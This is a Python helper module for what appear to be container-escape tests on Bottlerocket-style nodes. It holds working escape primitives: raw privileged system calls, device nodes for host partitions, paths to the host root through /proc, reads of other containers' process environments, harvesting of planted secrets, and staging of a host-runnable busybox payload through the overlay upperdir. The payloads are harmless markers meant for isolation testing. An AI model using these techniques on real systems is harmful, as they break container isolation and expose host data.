"""What attempts have in common: system calls by number, ways to the node's files, its devices.

Runs inside the attacked containers, on CPython's standard library.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import os
import re
import stat
from pathlib import Path
from typing import TYPE_CHECKING

from escape.attempt import Refused

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
LIBC.mmap.restype = ctypes.c_void_p

CALLS = {
    "ptrace": 101, "iopl": 172, "init_module": 175, "delete_module": 176, "setxattr": 188,
    "clock_settime": 227, "kexec_load": 246, "add_key": 248, "keyctl": 250, "unshare": 272,
    "perf_event_open": 298, "open_by_handle_at": 304, "setns": 308, "process_vm_readv": 310,
    "bpf": 321, "move_mount": 429, "fsopen": 430, "fsconfig": 431, "fsmount": 432,
    "pidfd_open": 434, "pidfd_getfd": 438,
}  # fmt: skip
"""Numbers on x86-64."""

RDONLY, REMOUNT, BIND = 1, 32, 4096
NEW_USER, NEW_MOUNT = 0x10000000, 0x00020000

HOST_PROGRAM = "usr/libexec/skyrocket/skyrocket"
SECRET = re.compile(rb"escape-secret--[0-9a-f]{16}")
ENCODED = re.compile(rb"ZXNjYXBlLXNlY3JldC0t[A-Za-z0-9+/]{20,24}")
MIB = 1 << 20


def call(name: str, *words: object) -> int:
    """System call NAME; raises OSError."""
    made = [
        word if isinstance(word, bytes | ctypes._SimpleCData) else _word(word) for word in words
    ]
    answer = LIBC.syscall(ctypes.c_long(CALLS[name]), *made)
    if answer < 0:
        error = ctypes.get_errno()
        raise OSError(error, f"{name}: {os.strerror(error)}")
    return int(answer)


def _word(word: object) -> object:
    return ctypes.c_long(word) if isinstance(word, int) else word


def mount(source: str, target: str, kind: str, flags: int = 0, data: str = "") -> None:
    done = LIBC.mount(
        source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), data.encode()
    )
    if done != 0:
        error = ctypes.get_errno()
        raise OSError(error, f"mount {kind or 'again'}: {os.strerror(error)}")


def unmount(target: str) -> None:
    LIBC.umount2(target.encode(), 2)


@contextlib.contextmanager
def mounted(source: str, kind: str, flags: int = 0, data: str = "") -> Iterator[Path]:
    """SOURCE at a folder of our own, for a moment."""
    where = f"/run/at-{os.getpid()}"
    os.makedirs(where, exist_ok=True)
    mount(source, where, kind, flags, data)
    try:
        yield Path(where)
    finally:
        unmount(where)


def partition(label: str) -> tuple[int, int, int]:
    """Major, minor and bytes of the partition LABEL, as sysfs tells everybody."""
    for folder in Path("/sys/class/block").iterdir():
        said = dict(
            line.split("=", 1) for line in (folder / "uevent").read_text().splitlines() if line
        )
        if said.get("PARTNAME") == label:
            size = int((folder / "size").read_text()) * 512
            return int(said["MAJOR"]), int(said["MINOR"]), size
    raise Refused(f"no partition {label}")


def node(kind: int, major: int, minor: int) -> str:
    """A device node of our own; raises OSError."""
    path = f"/dev/escape-{os.getpid()}"
    with contextlib.suppress(FileNotFoundError):
        os.unlink(path)
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    return path


def disk(label: str) -> str:
    major, minor, _ = partition(label)
    return node(stat.S_IFBLK, major, minor)


def character(major: int, minor: int) -> str:
    return node(stat.S_IFCHR, major, minor)


def secrets(data: bytes) -> list[str]:
    """Planted secrets in DATA, plain or as the settings keep them."""
    found = [word.decode() for word in SECRET.findall(data)]
    for word in ENCODED.findall(data):
        plain = base64.b64decode(word + b"=" * (-len(word) % 4))
        found += [part.decode() for part in SECRET.findall(plain)]
    return sorted(set(found))


def told(found: Iterable[str]) -> str:
    """FOUND as an answer; none is a refusal."""
    text = " ".join(sorted(set(found)))
    if not text:
        raise Refused("nothing of interest there")
    return text


def harvest(*folders: Path | str) -> str:
    """Every planted secret in small files below FOLDERS."""
    found: list[str] = []
    first = ""
    for top in folders:
        for folder, _, names in os.walk(top, onerror=None):
            for name in names:
                try:
                    found += secrets(small(os.path.join(folder, name)))
                except OSError as error:
                    first = first or f"{error.strerror}: {folder}/{name}"
    if not found and not any(Path(top).is_dir() for top in folders):
        raise Refused(f"not there: {', '.join(map(str, folders))}")
    return told(found) if found else _nothing(first)


def _nothing(first: str) -> str:
    raise Refused(first or "nothing of interest there")


def small(path: str) -> bytes:
    """The beginning of a plain file, without waiting on pipes and devices."""
    if not stat.S_ISREG(os.lstat(path).st_mode):
        return b""
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
    try:
        return os.read(descriptor, 64 << 10)
    finally:
        os.close(descriptor)


def processes() -> list[int]:
    return sorted(int(name) for name in os.listdir("/proc") if name.isdigit())


def roots() -> list[str]:
    """Ways to the node's own root: our mount of it, and processes of the node."""
    found = ["/.bottlerocket/rootfs"] if os.path.isdir("/.bottlerocket/rootfs/usr") else []
    for pid in processes()[:40]:
        root = f"/proc/{pid}/root"
        with contextlib.suppress(OSError):
            os.stat(f"{root}/{HOST_PROGRAM}")
            os.stat(f"{root}/usr/lib/systemd/systemd")
            return [root, *found]
    return found


def root() -> str:
    ways = roots()
    if not ways:
        raise Refused("no way to the node's root: no mount of it, none of its processes is seen")
    return ways[0]


def root_of_init() -> str:
    """The node's root through process 1 alone: what is written there is the node's."""
    try:
        os.stat(f"/proc/1/root/{HOST_PROGRAM}")
    except OSError as error:
        raise Refused(f"process 1 is none of the node's, or hidden: {error}") from error
    return "/proc/1/root"


def victim() -> int:
    """A process of another container, known by its environment."""
    last = "not seen"
    for pid in processes():
        try:
            data = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError as error:
            last = error.strerror or last
            continue
        if pid != os.getpid() and b"VICTIM=" in data:
            return pid
    raise Refused(f"no process of another container: {last}")


def named(word: str) -> int:
    """A process whose command line holds WORD."""
    for pid in processes():
        with contextlib.suppress(OSError):
            if word in Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split(
                "\0"
            ):
                return pid
    raise Refused(f"no process {word} is seen")


def write(path: str, text: str) -> None:
    """Write TEXT as it is; raises OSError."""
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        os.write(descriptor, text.encode())
    finally:
        os.close(descriptor)


def put(path: str, text: str) -> str:
    """Write a kernel's file that exists already and read it back -> what it says now."""
    descriptor = os.open(path, os.O_WRONLY)
    try:
        os.write(descriptor, text.encode())
    finally:
        os.close(descriptor)
    return Path(path).read_text()


def payload(token: str) -> str:
    """Put a program where the node can start it -> its path as the node sees it.

    The node has no shell: a static one comes along, in the writable layer of our own root, whose
    place on the node stands in our own table of mounts.
    """
    upper = re.search(r"upperdir=([^,\s]+)", Path("/proc/self/mountinfo").read_text())
    if upper is None:
        raise Refused("our root's place on the node is not told")
    folder = Path("/payload")
    folder.mkdir(exist_ok=True)
    shell = folder / "busybox"  # which it asks its own name for
    if not shell.exists():
        shell.write_bytes(Path("/usr/bin/busybox").read_bytes())
        shell.chmod(0o755)
    program = folder / token
    program.write_text(f"#!{upper[1]}/payload/busybox sh\necho {token} > /run/{token}\n")
    program.chmod(0o755)
    return f"{upper[1]}/payload/{token}"


RAN = "cat /run/{token}"
"""How a payload that ran on the node is seen there."""
